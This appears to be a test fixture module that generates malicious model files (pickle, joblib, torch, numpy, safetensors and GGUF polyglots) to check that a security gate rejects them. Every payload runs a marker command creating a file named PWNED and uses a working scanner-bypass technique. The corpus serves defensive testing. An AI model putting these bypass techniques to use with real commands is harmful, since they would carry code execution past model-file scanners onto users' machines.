"""An adversarial model corpus, generated at test time (no committed binaries).

Each :class:`Payload` is a model file that runs code when its normal loader opens it: the code creates the file
``PWNED`` in the loader's working directory (``tests/integrity/test_adversarial.py`` proves it, loading each file
for real in a subprocess, and checks that the gate fails it). They cover the bypass classes of issue 12: names
resolved differently from pickle (dotted names, escapes, Python 2 names, memo, protocol switches, INST/OBJ),
code-running callables that are in no denylist, format confusion (polyglots, unscanned members and names, a
second pickle after STOP), and joblib's own format.
"""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

PY = "open('PWNED', 'w').close()"
SH = "touch PWNED"
MARKER = "PWNED"


@dataclass(frozen=True)
class Payload:
    name: str
    filename: str
    loader: str
    """pickle | pickle2 (two consecutive loads) | joblib | torch | numpy"""
    build: Callable[[], bytes]
    bypass_class: str
    referenced: bool = False
    """Listed as a registry artifact (files with extensions no glob selects reach the gate this way)."""
    needs: str = ""
    """A module the payload or loader needs (torch; the stdlib's test package, which some distributions split)."""


def u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE for ``s``."""
    raw = s.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def args(*values: object) -> bytes:
    """Opcodes that push a tuple of ``values`` (a protocol 2 fragment without PROTO and STOP, no memo use)."""
    p = pickle.Pickler(buf := io.BytesIO(), protocol=2)
    p.fast = True  # no memo opcodes: the fragment can be spliced anywhere
    p.dump(tuple(values))
    return buf.getvalue()[2:-1]


def sg(module: str, name: str) -> bytes:
    return u(module) + u(name) + b"\x93"


def call4(module: str, name: str, *a: object) -> bytes:
    return b"\x80\x04" + sg(module, name) + args(*a) + b"R."


def glob0(module: str, name: str, *a: object) -> bytes:
    return f"c{module}\n{name}\n".encode() + args(*a) + b"R."


def _inner_pickle() -> bytes:
    return glob0("os", "system", SH)


def _chain(*steps: bytes) -> bytes:
    return b"\x80\x04" + b"".join(steps) + b"."


def _npy_header(header: str) -> bytes:
    h = header.encode("latin-1")
    h += b" " * (-(len(h) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h


def _npy_object(header: str) -> bytes:
    return _npy_header(header) + _inner_pickle()


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _renamed_member(name: bytes) -> bytes:
    """A deflated npz whose one member (a pickled object array) is then renamed ``name`` in both of its headers
    (zipfile refuses to write such names): a name ending in "/" (a folder's) or one that zipfile cuts at a NUL to
    nothing. numpy still loads the member's bytes by that name."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("QQ", _npy_object("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }") + bytes(256))
    data = buf.getvalue()
    assert data.count(b"QQ") == 2
    return data.replace(b"QQ", name)


def _gguf_front() -> bytes:
    # 'G' is BINFLOAT: it swallows the next 8 bytes ("GUF", version 3, one byte), POP drops the float
    return b"GGUF\x03\x00\x00\x00\x00" + b"0" + _inner_pickle()


def _safetensors_polyglot() -> bytes:
    """Valid safetensors (header length, JSON header, one U8 tensor) and a pickle: byte 0 of the length is 'V'
    (UNICODE reads to the first newline, inside the JSON's whitespace), '}' is EMPTY_DICT, the tensor bytes run."""
    body = _inner_pickle()
    entry = f'"w":{{"dtype":"U8","shape":[{len(body)}],"data_offsets":[0,{len(body)}]}}'
    for pad in range(0, 4096):
        header = "{" + " " * pad + entry + "\n}"
        if len(header) % 256 == ord("V") and len(header) < 65536:
            break
    n = len(header)
    length = struct.pack("<Q", n)
    assert length[0:1] == b"V" and b"\n" not in length
    return length + header.encode() + body


def _two_pickles(second: bytes) -> bytes:
    return pickle.dumps({"weights": [0.1, 0.2]}, protocol=4) + second


def _legacy_torch_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:", format=tarfile.PAX_FORMAT) as tf:
        for name, data in (("sys_info", pickle.dumps({"protocol_version": 1001}, 2)),
                           ("storages", _inner_pickle()), ("tensors", pickle.dumps(0, 2)),
                           ("pickle", pickle.dumps({}, 2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (SH,))


def _joblib(obj: object, compress: int = 0) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


def _joblib_object_array() -> bytes:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "ok", _Evil()
    return _joblib({"coef": np.zeros(4), "names": arr})


def _torch_zip(name: str) -> bytes:
    return _zip({f"{name}/data.pkl": pickle.dumps({"w": _Evil()}, protocol=2), f"{name}/version": b"3\n",
                 f"{name}/byteorder": b"little"})


def _torch_load_from_bytes() -> bytes:
    return b"\x80\x02" + b"ctorch.storage\n_load_from_bytes\n" + args(_torch_zip("inner")) + b"R."


PAYLOADS: tuple[Payload, ...] = (
    # 1. names resolved differently from pickle
    Payload("dotted-exec-call", "m1.pkl", "pickle", lambda: call4("builtins", "exec.__call__", PY), "names"),
    Payload("dotted-print-self-exec", "m2.pkl", "pickle", lambda: call4("builtins", "print.__self__.exec", PY),
            "names"),
    Payload("module-chain-os-system", "m3.pkl", "pickle", lambda: call4("pathlib", "os.system", SH), "names"),
    Payload("module-chain-tempfile-os", "m4.pkl", "pickle", lambda: call4("tempfile", "_os.system", SH), "names"),
    Payload("string-hex-escapes", "m5.pkl", "pickle",
            lambda: b"S'o\\x73'\nS'sy\\x73tem'\n\x93" + args(SH) + b"R.", "names"),
    Payload("string-octal-escapes", "m6.pkl", "pickle",
            lambda: b"S'\\157s'\nS'\\163ystem'\n\x93" + args(SH) + b"R.", "names"),
    Payload("unicode-escapes", "m7.pkl", "pickle",
            lambda: b"V\\u006fs\nVsy\\u0073tem\n\x93" + args(SH) + b"R.", "names"),
    Payload("py2-builtin-eval", "m8.pkl", "pickle",
            lambda: b"\x80\x02" + glob0("__builtin__", "eval", f"__import__('os').system('{SH}')"), "names"),
    Payload("py2-cpickle-loads", "m9.pkl", "pickle",
            lambda: b"\x80\x02" + glob0("cPickle", "loads", _inner_pickle()), "names"),
    Payload("memo-indirection", "m10.pkl", "pickle",
            lambda: b"\x80\x04" + u("os") + b"\x94" + u("system") + b"\x94h\x00h\x01\x93" + args(SH) + b"R.",
            "names"),
    Payload("protocol-switch-dotted", "m11.pkl", "pickle",
            lambda: b"\x80\x02\x80\x04" + sg("builtins", "exec.__call__") + args(PY) + b"R.", "names"),
    Payload("inst-opcode", "m12.pkl", "pickle", lambda: f"(S'{SH}'\nios\nsystem\n.".encode(), "names"),
    Payload("obj-opcode", "m13.pkl", "pickle", lambda: f"(cos\nsystem\nS'{SH}'\no.".encode(), "names"),
    Payload("reconstructor-popen", "m14.pkl", "pickle",
            lambda: b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\n(S'touch'\nS'PWNED'\nltR.",
            "names"),
    # 2. code-running callables no denylist had
    Payload("timeit", "c1.pkl", "pickle", lambda: call4("timeit", "timeit", PY + "; 1/0"), "callables"),
    Payload("cprofile-run", "c2.pkl", "pickle", lambda: call4("cProfile", "run", PY), "callables"),
    Payload("profile-run", "c3.pkl", "pickle", lambda: call4("profile", "run", PY), "callables"),
    Payload("runpy-run-code", "c4.pkl", "pickle", lambda: call4("runpy", "_run_code", PY, {}), "callables"),
    Payload("imaplib-stream", "c5.pkl", "pickle", lambda: call4("imaplib", "IMAP4_stream", SH), "callables"),
    Payload("uuid-command", "c6.pkl", "pickle", lambda: call4("uuid", "_get_command_stdout", "touch", MARKER),
            "callables"),
    Payload("osx-support-read-output", "c7.pkl", "pickle", lambda: call4("_osx_support", "_read_output", SH),
            "callables"),
    Payload("test-support-python", "c8.pkl", "pickle",
            lambda: call4("test.support.script_helper", "assert_python_ok", "-c", PY), "callables",
            needs="test.support.script_helper"),
    Payload("logging-config-factory", "c9.pkl", "pickle",
            lambda: call4("logging.config", "dictConfig", {"version": 1, "handlers": {
                "h": {"()": "subprocess.call", "args": ["touch", MARKER]}}}), "callables"),
    Payload("yaml-unsafe-load", "c10.pkl", "pickle",
            lambda: call4("yaml", "unsafe_load", f"!!python/object/apply:os.system ['{SH}']"), "callables"),
    Payload("yaml-unsafe-loader", "c11.pkl", "pickle",
            lambda: b"\x80\x04" + sg("yaml", "load") + u(f"!!python/object/apply:os.system ['{SH}']")
            + sg("yaml", "UnsafeLoader") + b"\x86R.", "callables"),
    Payload("builtins-open", "c12.pkl", "pickle", lambda: call4("builtins", "open", MARKER, "w"), "callables"),
    Payload("io-open", "c13.pkl", "pickle", lambda: call4("io", "open", MARKER, "w"), "callables"),
    Payload("codecs-open", "c14.pkl", "pickle", lambda: call4("codecs", "open", MARKER, "w"), "callables"),
    Payload("logging-filehandler", "c15.pkl", "pickle", lambda: call4("logging", "FileHandler", MARKER),
            "callables"),
    Payload("shutil-copyfile", "c16.pkl", "pickle", lambda: call4("shutil", "copyfile", "c16.pkl", MARKER),
            "callables"),
    Payload("tarfile-open", "c17.pkl", "pickle", lambda: call4("tarfile", "open", MARKER, "w"), "callables"),
    Payload("zipfile-create", "c18.pkl", "pickle", lambda: call4("zipfile", "ZipFile", MARKER, "w"), "callables"),
    Payload("pydoc-pipepager", "c19.pkl", "pickle", lambda: call4("pydoc", "pipepager", "", SH), "callables"),
    Payload("subprocess-check-output", "c20.pkl", "pickle",
            lambda: call4("subprocess", "check_output", ["touch", MARKER]), "callables"),
    Payload("numpy-ufunc-reconstruct", "c21.pkl", "pickle",
            lambda: _chain(sg("numpy.core", "_ufunc_reconstruct"), args("os", "system"), b"R", args(SH), b"R"),
            "callables"),
    Payload("functools-partial", "c22.pkl", "pickle",
            lambda: _chain(sg("functools", "partial"), sg("os", "system"), u(SH), b"\x86R)R"), "callables"),
    Payload("builtins-list-map", "c23.pkl", "pickle",
            lambda: _chain(sg("builtins", "list"), sg("builtins", "map"), sg("os", "system"), b"]", u(SH),
                           b"a\x86R\x85R"), "callables"),
    Payload("getattr-import-module", "c24.pkl", "pickle",
            lambda: _chain(sg("builtins", "getattr"), sg("importlib", "import_module"), args("os"), b"R",
                           u("system"), b"\x86R", args(SH), b"R"), "callables"),
    Payload("torch-load-from-bytes", "c25.pkl", "pickle", _torch_load_from_bytes, "callables", needs="torch"),
    # 3. format confusion
    Payload("pickle-behind-gguf-magic", "f1.pkl", "pickle", _gguf_front, "formats"),
    Payload("safetensors-pickle-polyglot", "f2.bin", "pickle", _safetensors_polyglot, "formats"),
    Payload("protocol0-unknown-extension", "f3.weights", "pickle", _inner_pickle, "formats", referenced=True),
    Payload("npy-duplicate-descr", "f4.npy", "numpy",
            lambda: _npy_object("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }"),
            "formats"),
    Payload("npy-comma-dtype-object", "f5.npy", "numpy",
            lambda: _npy_object("{'descr': 'i4,O', 'fortran_order': False, 'shape': (1,), }"), "formats"),
    Payload("npz-member-without-npy-suffix", "f6.npz", "numpy",
            lambda: _zip({"weights": _npy_object("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }")}),
            "formats"),
    Payload("npz-member-named-like-a-folder", "f12.npz", "numpy", lambda: _renamed_member(b"w/"), "formats"),
    Payload("npz-member-name-cut-at-nul", "f13.npz", "numpy", lambda: _renamed_member(b"\x00Q"), "formats"),
    Payload("second-pickle-after-stop", "f7.pkl", "pickle2", lambda: _two_pickles(pickle.dumps(_Evil(), 4)),
            "formats"),
    Payload("second-protocol0-pickle-after-stop", "f8.pkl", "pickle2", lambda: _two_pickles(_inner_pickle()),
            "formats"),
    Payload("legacy-torch-tar", "f9.pt", "torch", _legacy_torch_tar, "formats", needs="torch"),
    Payload("pytorch-model-bin", "pytorch_model.bin", "torch", lambda: _torch_zip("pytorch_model"), "formats",
            needs="torch"),
    Payload("dot-p-name", "model.p", "pickle", _inner_pickle, "formats"),
    Payload("pkl-gz-name", "model.pkl.gz", "joblib", lambda: gzip.compress(_inner_pickle()), "formats"),
    Payload("zlib-joblib", "f10.joblib", "joblib", lambda: zlib.compress(pickle.dumps(_Evil(), 4)), "formats"),
    Payload("text-pickle-pth", "f11.pth", "pickle", _inner_pickle, "formats"),
    # 6. joblib's own format
    Payload("joblib-nested-object-array", "j1.joblib", "joblib", _joblib_object_array, "joblib"),
    Payload("joblib-compressed-object-array", "j2.joblib", "joblib",
            lambda: zlib.compress(_joblib_object_array()), "joblib"),
)

LOADERS = {
    "pickle": "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)",
    "pickle2": "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)\n    pickle.load(f)",
    "joblib": "import joblib, sys\njoblib.load(sys.argv[1])",
    "torch": "import torch, sys\ntorch.load(sys.argv[1], weights_only=False)",
    "numpy": "import numpy, sys\nd = numpy.load(sys.argv[1], allow_pickle=True)\n"
             "[d[k] for k in getattr(d, 'files', [])]",
}
